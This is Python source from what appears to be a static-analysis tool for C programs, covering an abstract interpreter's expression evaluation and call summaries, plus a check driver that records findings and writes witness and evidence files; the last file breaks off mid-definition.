                tv = av.mask_eq_filter(cur, mask, c, op == "==")
                fv = av.mask_eq_filter(cur, mask, c, op != "==")
                if tv != BOT:
                    ns = dict(s)
                    self.refine_val(ns, key, tv)
                    ts.append(ns)
                if fv != BOT:
                    ns = dict(s)
                    self.refine_val(ns, key, fv)
                    fs.append(ns)
                return
            if (op == ">" and c == 0) or (op == ">=" and c == 1):
                return self._cmp_one(s, v, ref, "!=", 0, ts, fs)
            ts.append(dict(s))
            fs.append(dict(s))
            return
        tv = av.cmp_filter(v, op, c)
        fv = av.cmp_filter(v, av.NEG[op], c)
        if c in self.tr.sentinels and (v is TOP or v[0] != "S"):
            # modelling assumption (declared in the evidence): a value of untracked origin
            # never equals a protocol sentinel that is only ever produced as a literal
            if op == "==":
                tv = BOT
            elif op == "!=":
                fv = BOT
        if tv != BOT:
            ns = dict(s)
            if ref is not None and ref[0] == "k":
                self.refine_val(ns, ref[1], tv)
            ts.append(self.tag_refined(ns, ref, tv))
        if fv != BOT:
            ns = dict(s)
            if ref is not None and ref[0] == "k":
                self.refine_val(ns, ref[1], fv)
            fs.append(self.tag_refined(ns, ref, fv))

    # ------------------------------------------------------------ eval
    def cast_val(self, v, t):
        it = INT_TYPES.get(t)
        if it is None or v is TOP or v == BOT:
            return v
        bits, signed = it
        if v[0] == "S":
            out = set()
            for x in v[1]:
                x &= (1 << bits) - 1
                if signed and x >= (1 << (bits - 1)):
                    x -= (1 << bits)
                out.add(x)
            return ("S", frozenset(out))
        if v[0] == "G" and not signed:
            sg = set(v[1])
            if -1 in sg:
                sg.discard(-1)
                sg.add(1)
                if bits < 32:
                    sg.add(0)
            return av.norm(("G", frozenset(sg)))
        if v[0] == "N":
            return TOP if bits < 32 else v
        if v[0] == "R":
            tlo = -(1 << (bits - 1)) if signed else 0
            thi = (1 << (bits - 1)) - 1 if signed else (1 << bits) - 1
            if v[1] is not None and v[2] is not None and v[1] >= tlo and v[2] <= thi:
                return v
            if not signed and (v[1] is None or v[1] < 0):
                return TOP
            lo = v[1] if (v[1] is not None and v[1] >= tlo) else None
            hi = v[2] if (v[2] is not None and v[2] <= thi) else None
            if (v[1] is not None and v[1] < tlo) or (v[2] is not None and v[2] > thi):
                return TOP
            return av.norm(("R", lo, hi))
        if v[0] == "B":
            if bits >= 32:
                return v
            m = (1 << bits) - 1
            full = (1 << 64) - 1
            return av.norm(("B", (v[1] & m) | (full & ~m), v[2] & m))
        return v

    def eval(self, e, state, pure=False):
        """Evaluate expression e; returns list of (state, value, ref)."""
        if e is None:
            return [(state, TOP, None)]
        pure = pure or getattr(self, "force_pure", False)
        k = e.get("k")
        if "pe" in e and k != "int":
            return self.eval_pe(e, state)
        if k == "int":
            return [(state, S(e["v"]), None)]
        if k == "var":
            key = self.key_of(e)
            if key is None:
                if "[" in e.get("t", ""):
                    return [(state, ("G", frozenset((1,))), None)]
                return [(state, TOP, None)]
            return [(state, state.get(key, TOP), ("k", key))]
        if k == "mem":
            outs = self.effects_only(e["b"], state, pure)
            key = self.key_of(e)
            res = []
            for s in outs:
                if key is None:
                    if "[" in e.get("t", ""):
                        res.append((s, ("G", frozenset((1,))), None))
                    else:
                        res.append((s, TOP, None))
                else:
                    res.append((s, s.get(key, TOP), ("k", key)))
            return res
        if k == "cast":
            res = []
            t = e.get("t")
            if e.get("ck") != "IntegralCast":
                # lvalue-to-rvalue, decay, pointer and no-op casts do not change the value
                return self.eval(e["e"], state, pure)
            for (s, v, ref) in self.eval(e["e"], state, pure):
                nv = self.cast_val(v, t)
                keep = ref
                it = INT_TYPES.get(t)
                # a narrowing cast breaks the link between value and lvalue
                if nv != v and it is not None and it[0] < 32:
                    keep = None
                res.append((s, nv, keep))
            return res
        if k == "un":
            return self.eval_un(e, state, pure)
        if k == "bin":
            return self.eval_bin(e, state, pure)
        if k == "cond":
            # not a CFG terminator (constant-folded condition or similar)
            res = []
            for (s, v, r) in self.eval(e["c"], state, pure):
                tv = av.truth_filter(v, True)
                fv = av.truth_filter(v, False)
                if tv != BOT:
                    res += [(s2, v2, None) for (s2, v2, r2) in self.eval(e["a"], s, pure)]
                if fv != BOT:
                    res += [(s2, v2, None) for (s2, v2, r2) in self.eval(e["b"], s, pure)]
            return res
        if k == "call":
            if pure:
                return [(state, TOP, None)]
            return self.eval_call(e, state)
        if k == "decl":
            v = e.get("var")
            if v is None:
                return [(state, TOP, None)]
            if e.get("static"):
                return [(state, TOP, None)]
            key = None
            if "id" in v and v["id"] in self.cond_locals and self.tr.track_local(self.fn, v):
                self.tracked_locals[v["id"]] = v
                key = ("L", v["id"])
            if "init" not in e:
                if key is not None:
                    ns = dict(state)
                    ns.pop(key, None)
                    return [(ns, TOP, None)]
                return [(state, TOP, None)]
            res = []
            for (s, val, r) in self.eval(e["init"], state, pure):
                ns = dict(s)
                if key is not None:
                    val = self.cast_val(val, v.get("t"))
                    self.setval(ns, key, val)
                    ns.pop(("T", key), None)
                    if r is not None and r[0] == "t":
                        ns[("T", key)] = r[1]
                    if self.reporting:
                        self.tr.visit_store(self, self.cur_block, e, key, val, ns)
                    ns = self.tr.on_store(self, e, key, val, ns)
                res.append((ns, val, None))
            return res
        if k == "ret":
            if "e" not in e:
                ns = dict(state)
                if self.reporting:
                    self.tr.visit_ret(self, self.cur_block, e, ns, TOP)
                return [(ns, TOP, None)]
            res = []
            for (s, v, r) in self.eval(e["e"], state, pure):
                ns = dict(s)
                v = self.cast_val(v, self.fn.ret)
                self.setval(ns, RET, v)
                if self.reporting:
                    self.tr.visit_ret(self, self.cur_block, e, ns, v)
                res.append((ns, v, None))
            return res
        if k == "idx":
            outs = self.effects_only(e["i"], state, pure)
            res = []
            for s in outs:
                for s2 in self.effects_only(e["b"], s, pure):
                    res.append((s2, TOP, None))
            return res
        if k in ("str",):
            return [(state, ("G", frozenset((1,))), None)]
        if k == "fn":
            return [(state, ("G", frozenset((1,))), None)]
        if k == "stmtexpr":
            if "last" in e:
                # inner statements already executed as CFG elements
                return [(s, v, None) for (s, v, r) in self.eval(e["last"], state, True)]
            return [(state, TOP, None)]
        # init lists, other: effects of children only
        states = [state]
        from .ir import children
        for ch in children(e):
            nxt = []
            for s in states:
                nxt += self.effects_only(ch, s, pure)
            states = nxt
        return [(s, TOP, None) for s in states]

    def effects_only(self, e, state, pure=False):
        if e is None or pure or not has_effects(e):
            return [state]
        return [s for (s, v, r) in self.eval(e, state, pure)]

    def eval_pe(self, e, state):
        """Logical / conditional operator whose operands were evaluated in
        earlier CFG blocks: its value is determined by the recorded choices."""
        tid = e["pe"]
        k = e.get("k")
        ch = state.get(("C", tid))
        ns = state
        if ch is not None:
            ns = dict(state)
            del ns[("C", tid)]
        if k == "cond":
            arms = []
            if ch is None or ch is True:
                arms.append(e["a"])
            if ch is None or ch is False:
                arms.append(e["b"])
            res = []
            for a in arms:
                for (s, v, r) in self.eval(a, ns, pure=True):
                    res.append((s, v, None))
            return res
        if k == "bin" and e["op"] in ("&&", "||"):
            # value: for &&: lhs false -> 0 ; lhs true -> truth(rhs)
            # the choice recorded is that of the lhs terminator
            op = e["op"]
            if ch is None:
                return [(ns, S(0, 1), None)]
            if op == "&&" and ch is False:
                return [(ns, S(0), None)]
            if op == "||" and ch is True:
                return [(ns, S(1), None)]
            res = []
            for (s, v, r) in self.eval(e["r"], ns, pure=True):
                t = set()
                if av.truth_filter(v, True) != BOT:
                    t.add(1)
                if av.truth_filter(v, False) != BOT:
                    t.add(0)
                res.append((s, ("S", frozenset(t)), None))
            return res
        return [(ns, TOP, None)]

    def eval_un(self, e, state, pure):
        op = e["op"]
        if op == "!":
            res = []
            for (s, v, r) in self.eval(e["e"], state, pure):
                t = set()
                if av.truth_filter(v, True) != BOT:
                    t.add(0)
                if av.truth_filter(v, False) != BOT:
                    t.add(1)
                res.append((s, ("S", frozenset(t)), None))
            return res
        if op == "&":
            return [(s, ("G", frozenset((1,))), None) for s in self.effects_only(e["e"], state, pure)]
        if op == "*":
            key = self.key_of(e)
            if key is not None:
                return [(s, s.get(key, TOP), ("k", key)) for s in self.effects_only(e["e"], state, pure)]
            return [(s, TOP, None) for s in self.effects_only(e["e"], state, pure)]
        if op == "-":
            res = []
            for (s, v, r) in self.eval(e["e"], state, pure):
                if v is not TOP and v[0] == "S":
                    nv = ("S", frozenset(-x for x in v[1]))
                elif v is not TOP and v[0] == "G":
                    nv = ("G", frozenset(-x for x in v[1]))
                else:
                    nv = TOP
                res.append((s, nv, None))
            return res
        if op in ("++", "--", "post++", "post--"):
            if pure:
                return [(state, TOP, None)]
            return self.store(e["e"], TOP, state, e, compound=True)
        if op in ("+",):
            return self.eval(e["e"], state, pure)
        return [(s, TOP, None) for s in self.effects_only(e["e"], state, pure)]

    def eval_bin(self, e, state, pure):
        op = e["op"]
        if op in ASSIGN_OPS:
            if pure:
                return [(state, TOP, None)]
            return self.eval_assign(e, state)
        if op == ",":
            res = []
            for s in self.effects_only(e["l"], state, pure):
                res += self.eval(e["r"], s, pure)
            return res
        if op in ("==", "!=", "<", "<=", ">", ">="):
            ts, fs = self.branch_cmp(e, state) if not pure else ([state], [state])
            res = [(s, S(1), None) for s in ts] + [(s, S(0), None) for s in fs]
            return res
        res = []
        for (s1, lv, lref) in self.eval(e["l"], state, pure):
            for (s2, rv, rref) in self.eval(e["r"], s1, pure):
                lc, rc = av.is_const(lv), av.is_const(rv)
                ref = None
                val = TOP
                if op == "&":
                    if rc is not None:
                        val = av.bits_and(lv, rc)
                        if lref is not None and lref[0] == "k":
                            ref = ("m", lref[1], rc)
                    elif lc is not None:
                        val = av.bits_and(rv, lc)
                        if rref is not None and rref[0] == "k":
                            ref = ("m", rref[1], lc)
                elif op == "|":
                    if rc is not None:
                        val = av.bits_or(lv, rc)
                    elif lc is not None:
                        val = av.bits_or(rv, lc)
                elif lc is not None and rc is not None and self.tr.fold_arith:
                    try:
                        if op == "+":
                            val = S(lc + rc)
                        elif op == "-":
                            val = S(lc - rc)
                        elif op == "*":
                            val = S(lc * rc)
                        elif op == "<<" and 0 <= rc < 64:
                            val = S(lc << rc)
                        elif op == ">>" and 0 <= rc < 64:
                            val = S(lc >> rc)
                        elif op == "^":
                            val = S(lc ^ rc)
                    except Exception:
                        val = TOP
                elif op in ("+", "-") and e.get("t", "").endswith("*"):
                    # pointer arithmetic keeps non-nullness
                    val = lv if (lv is not TOP and lv[0] == "G") else TOP
                res.append((s2, val, ref))
        return res

    def eval_assign(self, e, state):
        op = e["op"]
        res = []
        for (s, rv, rref) in self.eval(e["r"], state):
            if op == "=":
                outs = self.store(e["l"], rv, s, e)
                if rref is not None and rref[0] == "t":
                    tagged = []
                    for (ns, v2, r2) in outs:
                        if r2 is not None and r2[0] == "k" and r2[1][0] == "L":
                            ns = dict(ns)
                            ns[("T", r2[1])] = rref[1]
                        elif r2 is None:
                            # `(untracked = call()) == x`: the value of the assignment is still the call result
                            r2 = rref
                        tagged.append((ns, v2, r2))
                    outs = tagged
                res += outs
            else:
                key = self.key_of(e["l"])
                if key is not None:
                    cur = s.get(key, TOP)
                    rc = av.is_const(rv)
                    nv = TOP
                    wb = None
                    if rc is not None:
                        if op == "|=":
                            nv = av.bits_or(cur, rc)
                            wb = rc
                        elif op == "&=":
                            wb = ~rc
                            # x &= c  == x & c
                            nv = av.bits_and(cur, rc)
                            # bits outside are cleared, inside unchanged
                        elif op in ("+=", "-=") and av.is_const(cur) is not None and self.tr.fold_arith:
                            nv = S(av.is_const(cur) + (rc if op == "+=" else -rc))
                    res += self.store(e["l"], nv, s, e, wbits=wb)
                else:
                    res += self.store(e["l"], TOP, s, e, compound=True)
        return res

    def store(self, lhs, val, state, node, compound=False, wbits=None):
        """Assign val to lvalue lhs. Returns [(state, val, ref)]."""
        outs = self.effects_only(lhs, state)
        res = []
        root = lvalue_root(lhs)
        l0 = strip(lhs)
        for s in outs:
            ns = dict(s)
            key = None
            k0 = self.key_of(l0) if l0 is not None else None
            self.store_old = s.get(k0, TOP) if k0 is not None else TOP
            if root is not None:
                if root[0] == "var" and l0 is root[2] and (l0.get("t") or "").endswith("*"):
                    # the pointer now names another object: facts held about the fields reached
                    # through it (field-based keys) no longer apply
                    rec = type_record(l0.get("t"))
                    if rec:
                        for k in self.eng.keys_under(rec):
                            ns.pop(k, None)
                if root[0] in ("field", "var"):
                    direct = (l0 is root[2])
                    if direct:
                        key = self.key_of(l0)
                        if key is not None:
                            t = l0.get("t")
                            v2 = self.cast_val(val, t)
                            self.setval(ns, key, v2)
                            ns.pop(("T", key), None)
                            val = v2
                    elif root[0] == "var" and (root[2].get("t") or "").endswith("*"):
                        # p[i] = v / p->f = v through a pointer variable: the pointer itself is unchanged
                        for lid in self.addr_taken:
                            ns.pop(("L", lid), None)
                    else:
                        # element / sub-object of a tracked aggregate: weak update
                        k2 = self.key_of(root[2])
                        if k2 is not None:
                            ns.pop(k2, None)
                            key = k2
                            val_w = TOP
                            self.mark_written(ns, k2)
                            if self.reporting:
                                self.tr.visit_store(self, self.cur_block, node, k2, TOP, ns)
                            ns = self.tr.on_store(self, node, k2, TOP, ns)
                            res.append((ns, val, None))
                            continue
                    # struct-typed store of whole record through field? ignore
                elif root[0] == "deref" and l0 is root[2] and self.key_of(l0) is not None:
                    key = self.key_of(l0)
                    val = self.cast_val(val, l0.get("t"))
                    self.setval(ns, key, val)
                elif root[0] == "deref":
                    p = root[1]
                    rec = type_record(p.get("t")) if p is not None else None
                    lt = (l0.get("t") or "") if l0 else ""
                    if rec and type_record(lt) == rec and "*" not in lt:
                        self.havoc_record(ns, rec)
                    # stores through unknown pointers may hit address-taken locals
                    for lid in self.addr_taken:
                        ns.pop(("L", lid), None)
            if key is not None:
                self.mark_written(ns, key, wbits)
                if self.reporting:
                    self.tr.visit_store(self, self.cur_block, node, key, val, ns)
                ns2 = self.tr.on_store(self, node, key, val, ns)
                if ns2 is None:
                    continue
                ns = ns2
                res.append((ns, val, ("k", key)))
            else:
                ns2 = self.tr.on_store(self, node, None, val, ns)
                if ns2 is None:
                    continue
                res.append((ns2, val, None))
        return res

    def mark_written(self, ns, key, bits=None):
        """Summary bookkeeping: key (and, for bit-tracked words, which bits) was assigned."""
        if not self.summary_mode or key[0] not in ("F", "G"):
            return
        ns[WRITTEN] = ns.get(WRITTEN, frozenset()) | {key}
        bm = self.tr.bitmask.get(key)
        if bm is not None:
            ns[("WB", key)] = ns.get(("WB", key), 0) | (bm if bits is None else (bits & bm))

    def havoc_record(self, ns, rec):
        for k in list(ns.keys()):
            if k[0] == "F" and k[1] == rec:
                del ns[k]
        if self.summary_mode:
            for k in self.tr.keys:
                if k[0] == "F" and k[1] == rec:
                    self.mark_written(ns, k)

    def havoc_key(self, ns, key):
        if key[0] == "F" and key[2] == WHOLE:
            self.havoc_record(ns, key[1])
            return
        if key in self.tr.keys:
            ns.pop(key, None)
            self.mark_written(ns, key)

    # ------------------------------------------------------------ calls
    def eval_call(self, e, state):
        # arguments first (effects + values)
        states = [(state, [])]
        if "fp" in e:
            states = [(s, []) for s in self.effects_only(e["fp"], state)]
        for a in e.get("a", []):
            nxt = []
            for (s, vals) in states:
                for (s2, v, r) in self.eval(a, s):
                    nxt.append((s2, vals + [v]))
            states = nxt
        res = []
        for (s, argvals) in states:
            if self.reporting:
                self.tr.visit_call(self, self.cur_block, e, s, argvals)
            ov = self.tr.on_call(self, e, s, argvals)
            if ov is not None:
                outs = ov
            else:
                outs = self.apply_call(e, s, argvals)
            tag = self.tr.call_tag(self, e)
            for (s2, v) in outs:
                s2 = self.havoc_out_args(e, s2)
                s3 = self.tr.after_call(self, e, s2, v)
                if s3 is None:
                    continue
                res.append((s3, v, ("t", tag) if tag is not None else None))
        return res

    def havoc_out_args(self, e, state):
        ns = None
        for a in e.get("a", []):
            a0 = strip(a)
            if a0 is None:
                continue
            if a0.get("k") == "un" and a0["op"] == "&":
                r = lvalue_root(a0["e"])
                if r and r[0] == "var" and "id" in r[1] and not (
                        strip(a0["e"]) is not r[2] and (r[1].get("t") or "").endswith("*")):
                    key = ("L", r[1]["id"])
                    if key in state:
                        if ns is None:
                            ns = dict(state)
                        ns.pop(key, None)
            elif a0.get("k") == "var" and "id" in a0:
                key = ("D", a0["id"])
                if key in (ns if ns is not None else state):
                    if ns is None:
                        ns = dict(state)
                    ns.pop(key, None)
        return ns if ns is not None else state

    def apply_call(self, e, state, argvals):
        targets = self.cg.call_targets(self.fn, e)
        name = e.get("fn")
        if not targets:
            ns = dict(state)
            for a in e.get("a", []):
                for key in self.cg.arg_write_keys(a):
                    self.havoc_key(ns, key)
            # memset/memcpy of a whole record
            if name in ("memset", "memcpy", "memmove", "__builtin_memset", "__builtin_memcpy",
                        "__builtin___memset_chk", "__builtin___memcpy_chk", "memset_s") and e.get("a"):
                a0 = strip(e["a"][0])
                if a0 is not None and a0.get("k") in ("var", "mem"):
                    rec = type_record(a0.get("t"))
                    if rec and rec in self.prog.records and "*" in (a0.get("t") or ""):
                        self.havoc_record(ns, rec)
            v = self.tr.extern_ret.get(name, TOP) if name else TOP
            return [(ns, v)]
        res = []
        for t in targets:
            res += self.apply_target(e, state, argvals, t)
        return res

    def apply_target(self, e, state, argvals, t):
        eng = self.eng
        if not eng.relevant(t.qname):
            # callee never touches tracked state: only pointer arguments matter
            ns = dict(state)
            for a in e.get("a", []):
                for key in self.cg.arg_write_keys(a):
                    self.havoc_key(ns, key)
            rs = self.cg.retsets.ret.get(t.qname)
            rv = av.norm(("S", rs)) if rs else TOP
            return [(ns, rv)]
        binds = set()
        args = e.get("a", [])
        for i, a in enumerate(args):
            a0 = strip(a)
            if a0 is not None and a0.get("k") == "mem" and i < len(t.params):
                k = self.key_of(a0)
                if k is not None and k[0] == "F" and t.params[i].get("t") in INT_TYPES:
                    binds.add((i, k))
        sm = eng.summary(t, frozenset(binds))
        if sm is None:
            self.cut = True
            ns = dict(state)
            for key in self.cg.writes.get(t.qname, ()):
                self.havoc_key(ns, key)
            for k in list(ns.keys()):
                if k[0] == "E":
                    ns[k] = self.tr.join_event(k, ns[k], None)
            return [(ns, TOP)]
        res = []
        for (rv, fvals, written) in sm.tuples:
            ns = dict(state)
            ok = True
            for k, pv in fvals.items():
                if k[0] == "P":
                    m = av.meet(ns.get(k[1], TOP), pv)
                    if m == BOT:
                        ok = False
                        break
                    if k[1] not in written:
                        self.setval(ns, k[1], m)
                    elif self.summary_mode and k[1] not in ns.get(WRITTEN, ()):
                        # propagate the pre-condition to our own entry
                        self.refine_val(ns, k[1], m)
            if not ok:
                continue
            for k in written:
                v = fvals.get(k, TOP)
                bm = self.tr.bitmask.get(k)
                wb = fvals.get(("WB", k)) if bm is not None else None
                if wb is not None:
                    # only the bits in wb were assigned by the callee; the others keep the
                    # caller's knowledge, refined by what the callee learnt from its tests
                    cur = ns.get(k, TOP)
                    cur = av.to_bits(cur) if (cur is not TOP and cur[0] == "S") else cur
                    cm, cv = (cur[1], cur[2]) if (cur is not TOP and cur is not None and cur[0] == "B") else (0, 0)
                    vv = av.to_bits(v) if (v is not TOP and v[0] == "S") else v
                    vm, vval = (vv[1], vv[2]) if (vv is not TOP and vv is not None and vv[0] == "B") else (0, 0)
                    keep = bm & ~wb
                    if (cm & vm & keep) & (cv ^ vval):
                        ok = False
                        break
                    nm = ((cm | vm) & keep) | (vm & wb)
                    nvv = ((cv & cm & keep) | (vval & vm)) & nm
                    self.setval(ns, k, av.norm(("B", nm & bm, nvv & bm)))
                    if self.summary_mode:
                        self.mark_written(ns, k, wb)
                    continue
                if v is TOP:
                    ns.pop(k, None)
                else:
                    ns[k] = v
                if self.summary_mode:
                    self.mark_written(ns, k)
            if not ok:
                continue
            for k, v in fvals.items():
                if k in written or k[0] in ("WB", "P"):
                    continue
                if k[0] == "E":
                    # typestate entries are always 'written' when present
                    ns[k] = v
                    continue
                m = av.meet(ns.get(k, TOP), v)
                if m == BOT:
                    ok = False
                    break
                self.setval(ns, k, m)
            if ok:
                res.append((ns, rv))
        return res

    # ------------------------------------------------------------ results
    def exit_tuples(self):
        """Return-conditioned post-facts at the function's exit: one tuple per
        (return value class, set of tracked keys written); field values are
        joined inside a class, so 'unchanged' never mixes with 'written'."""
        fn = self.fn
        groups = {}
        ex = self.IN.get(fn.exit, set())
        exact = {}
        for fs in ex:
            d = dict(fs)
            rv = d.pop(RET, TOP)
            written = d.pop(WRITTEN, frozenset())
            fvals = {k: v for k, v in d.items() if k[0] in ("F", "G", "WB", "P") or
                     (k[0] == "E" and k[1] in self.tr.export_events)}
            exact[(rv, freeze(fvals), written)] = (rv, fvals, written)
        if len(exact) <= self.tr.max_exact_tuples:
            return list(exact.values())
        for fs in ex:
            d = dict(fs)
            rv = d.pop(RET, TOP)
            written = d.pop(WRITTEN, frozenset())
            fvals = {k: v for k, v in d.items() if k[0] in ("F", "G", "WB", "P") or
                     (k[0] == "E" and k[1] in self.tr.export_events)}
            ev = frozenset((k, v) for k, v in fvals.items() if k[0] == "E")
            gk = (rv, written, ev)
            g = groups.get(gk)
            if g is None:
                groups[gk] = dict(fvals)
            else:
                for k, v in fvals.items():
                    if k[0] == "WB":
                        g[k] = g.get(k, 0) | v
                for k in list(g.keys()):
                    if k[0] in ("E", "WB"):
                        continue
                    if k not in fvals:
                        del g[k]
                    else:
                        j = av.join(g[k], fvals[k])
                        if j is TOP:
                            del g[k]
                        else:
                            g[k] = j
        lst = [(rv, fv, w) for (rv, w, ev), fv in groups.items()]
        if len(lst) > self.tr.max_tuples:
            lst = self.coarsen(lst)
        return lst

    def coarsen(self, lst):
        groups = {}
        for (rv, fvals, written) in lst:
            g = av.signs_of(rv) if rv is not TOP else "T"
            c = av.is_const(rv)
            gk = ("c", c) if c is not None else ("s", g)
            groups.setdefault(gk, []).append((rv, fvals, written))
        if len(groups) > self.tr.max_tuples:
            groups = {"all": lst}
        out = []
        for gk, items in groups.items():
            rv = BOT
            allw = frozenset()
            for (r, f, w) in items:
                rv = av.join(rv, r) if r is not TOP else TOP
                if r is TOP:
                    rv = TOP
                allw |= w
            keys = set()
            for (r, f, w) in items:
                keys |= set(f.keys())
            fv = {}
            for k in keys:
                if k[0] == "WB":
                    acc = 0
                    for (r, f, w) in items:
                        acc |= f.get(k, self.tr.bitmask.get(k[1], 0) if k[1] in w else 0)
                    fv[k] = acc
                    continue
                if k[0] == "E":
                    vals = set(f.get(k) for (r, f, w) in items)
                    if len(vals) == 1:
                        fv[k] = vals.pop()
                    else:
                        acc = None
                        first = True
                        for (r, f, w) in items:
                            acc = f.get(k) if first else self.tr.join_event(k, acc, f.get(k))
                            first = False
                        fv[k] = acc
                    continue
                if k in allw:
                    # written on some path: value is the join where written on all, else TOP
                    if all(k in w for (r, f, w) in items):
                        acc = BOT
                        for (r, f, w) in items:
                            v = f.get(k, TOP)
                            acc = TOP if v is TOP else av.join(acc, v)
                            if acc is TOP:
                                break
                        if acc is not TOP and acc != BOT:
                            fv[k] = acc
                    continue
                acc = BOT
                for (r, f, w) in items:
                    v = f.get(k, TOP)
                    if v is TOP:
                        acc = TOP
                        break
                    acc = av.join(acc, v)
                if acc is not TOP and acc != BOT:
                    fv[k] = acc
            out.append((rv, fv, allw))
        self.widened = True
        return out

    def report(self):
        """Second pass: replay every block from its fixpoint IN states with the
        tracker's visit hooks enabled."""
        self.reporting = True
        try:
            for bid, sts in self.IN.items():
                block = self.fn.bmap[bid]
                for fs in sts:
                    self.cur_in = (bid, fs)
                    self.flow_block(block, dict(fs))
        finally:
            self.reporting = False

    def path_to(self, bid, fs, limit=400):
        """Shortest-discovery path of (block, edge index) leading to (bid, fs)."""
        path = []
        cur = (bid, fs)
        n = 0
        while cur is not None and n < limit:
            par = self.parent.get(cur)
            if par is None:
                break
            pb, pfs, sidx = par
            path.append((pb, sidx))
            cur = (pb, pfs)
            n += 1
        path.reverse()
        return path

    def describe_path(self, path, maxlen=40):
        """Human-readable branch decisions along a path."""
        out = []
        for (pb, sidx) in path:
            b = self.fn.bmap[pb]
            t = b.get("term")
            if t is not None and "c" in t and len(b["succ"]) >= 2:
                sc = b["succ"][sidx]
                if t["k"] == "switch":
                    lab = ("case %s" % sc["case"]) if "case" in sc else "default"
                else:
                    lab = "true" if sidx == 0 else "false"
                out.append("%s:%d: %s -> %s" % (self.fn.relfile, t["ln"], t.get("s", "")[:90], lab))
        if len(out) > maxlen:
            out = out[:maxlen // 2] + ["..."] + out[-maxlen // 2:]
        return out
