"""Check driver plumbing: findings, known-findings file, witnesses, evidence."""
import json
import os
import sys
import time

from .build import VERIF, AnalysisBroken

# checks run against a scratch copy (seeded changes, self-tests) must not overwrite the evidence of /repo
EVID_DIR = os.environ.get("VERIF_EVIDENCE_DIR") or os.path.join(VERIF, "evidence")
WIT_DIR = os.path.join(EVID_DIR, "witness")
KNOWN = os.path.join(VERIF, "known_findings.jsonl")


class Finding:
    def __init__(self, prop, rule, function, construct, message, file=None, line=None,
                 path=None, detail=None):
        self.prop = prop
        self.rule = rule
        self.function = function
        self.construct = construct      # stable signature (no line numbers)
        self.message = message
        self.file = file
        self.line = line
        self.path = path or []
        self.detail = detail or {}

    def key(self):
        return (self.prop, self.rule, self.function, self.construct)

    def to_json(self):
        return {"property": self.prop, "rule": self.rule, "function": self.function,
                "construct": self.construct, "message": self.message, "file": self.file,
                "line": self.line, "path": self.path, "detail": self.detail}


def load_known():
    known = {}
    fixed = []
    if os.path.exists(KNOWN):
        for ln in open(KNOWN):
            ln = ln.strip()
            if not ln or ln.startswith("#"):
                continue
            d = json.loads(ln)
            if d.get("status") == "fixed":
                fixed.append(d)
                continue
            known[(d["property"], d["rule"], d["function"], d["construct"])] = d
    return known, fixed


class Result:
    """Accumulates what a check analysed and what it found."""

    def __init__(self, prop, tier):
        self.prop = prop
        self.tier = tier
        self.t0 = time.time()
        self.findings = []
        self.obligations = 0
        self.discharged = 0
        self.instances = []       # (rule, instance description, verdict)
        self.rules = {}           # rule -> {instances, nontrivial}
        self.notes = []
        self.assumptions = []
        self.trusted = []
        self.stats = {}
        self.explanation = ""
        self.floors = []

    def rule(self, rid, text):
        self.rules.setdefault(rid, {"text": text, "instances": 0, "nontrivial": 0, "violations": 0})

    def instance(self, rid, desc, ok, nontrivial=True, finding=None):
        r = self.rules.setdefault(rid, {"text": "", "instances": 0, "nontrivial": 0, "violations": 0})
        r["instances"] += 1
        self.obligations += 1
        if nontrivial:
            r["nontrivial"] += 1
        if ok:
            self.discharged += 1
        else:
            r["violations"] += 1
            if finding is not None:
                self.findings.append(finding)
        self.instances.append({"rule": rid, "instance": desc, "verdict": "holds" if ok else "VIOLATED"})

    def floor(self, rid, minimum):
        # evaluated in finish(): a genuine violation found elsewhere is reported in preference to the floor failure
        self.floors.append((rid, minimum))

    def finish(self):
        os.makedirs(WIT_DIR, exist_ok=True)
        known, fixed = load_known()
        # de-duplicate findings by key
        uniq = {}
        for f in self.findings:
            uniq.setdefault(f.key(), f)
        violations = []
        known_hit = []
        for k, f in uniq.items():
            if k in known:
                known_hit.append((f, known[k]))
            else:
                violations.append(f)
        # remove stale witnesses of this property
        for fn in os.listdir(WIT_DIR):
            if fn.startswith(self.prop + "-"):
                os.unlink(os.path.join(WIT_DIR, fn))
        lines = []
        for f, kd in known_hit:
            lines.append("KNOWN-FINDING: property=%s %s: %s in %s (%s)" % (
                self.prop, f.rule, f.construct, f.function, kd.get("summary", f.message)))
        for i, f in enumerate(violations):
            p = os.path.join(WIT_DIR, "%s-%d.json" % (self.prop, i + 1))
            with open(p, "w") as fh:
                json.dump(f.to_json(), fh, indent=1)
            where = "%s:%s" % (f.file, f.line) if f.file else ""
            lines.append("VIOLATION property=%s replay=%s" % (self.prop, p))
            lines.append("  %s %s %s(): %s" % (f.rule, where, f.function, f.message))
        nontriv = len(set((i["rule"], i["instance"]) for i in self.instances))
        cov = {
            "explanation": self.explanation,
            "evaluations": self.obligations,
            "distinct_nontrivial": sum(r["nontrivial"] for r in self.rules.values()),
            "rule": "one evaluation = one rule instance (site x rule) found by querying the IR of the "
                    "current tree; non-trivial = the instance's premise was exercised by a non-empty "
                    "set of analysed valuations/paths (instances whose site is unreachable in the "
                    "analysed configuration are counted as trivial)",
            "obligations": self.obligations,
            "discharged": self.discharged,
            "exhaustive": True,
            "rules": self.rules,
            "samples": self.instances[:60],
            "known_findings_hit": [f.to_json() for f, _ in known_hit][:20],
            "stats": self.stats,
            "notes": self.notes,
            "trusted_base": self.trusted,
            "checker_cmd": "./check %s --tier %s" % (self.prop, self.tier),
        }
        ev = {
            "property_id": self.prop,
            "tier": self.tier,
            "seed": int(os.environ.get("VERIF_SEED", "0") or 0),
            "level": "other",
            "coverage": cov,
            "assumptions": self.assumptions,
            "wall_s": round(time.time() - self.t0, 2),
            "violations": len(violations),
        }
        os.makedirs(EVID_DIR, exist_ok=True)
        with open(os.path.join(EVID_DIR, "%s.json" % self.prop), "w") as fh:
            json.dump(ev, fh, indent=1)
        for r, d in sorted(self.rules.items()):
            print("%s: %d instances, %d non-trivial, %d violated  - %s" % (
                r, d["instances"], d["nontrivial"], d["violations"], d["text"][:100]))
        for ln in lines:
            print(ln)
        print("%s: obligations=%d discharged=%d known=%d violations=%d wall=%.1fs" % (
            self.prop, self.obligations, self.discharged, len(known_hit), len(violations),
            time.time() - self.t0))
        broken = []
        for rid, minimum in self.floors:
            n = self.rules.get(rid, {}).get("instances", 0)
            if n < minimum:
                broken.append("rule %s matched %d instances, expected at least %d (anchor moved or front end lost it)"
                              % (rid, n, minimum))
        if broken and not violations:
            raise AnalysisBroken("; ".join(broken))
        for b_ in broken:
            print("NOTE: %s" % b_)
        return 1 if violations else 0
