"""Program model over the cfgx IR: functions, records, globals, constants."""
import os
import re

from .build import AnalysisBroken, extract, REPO


def strip(e):
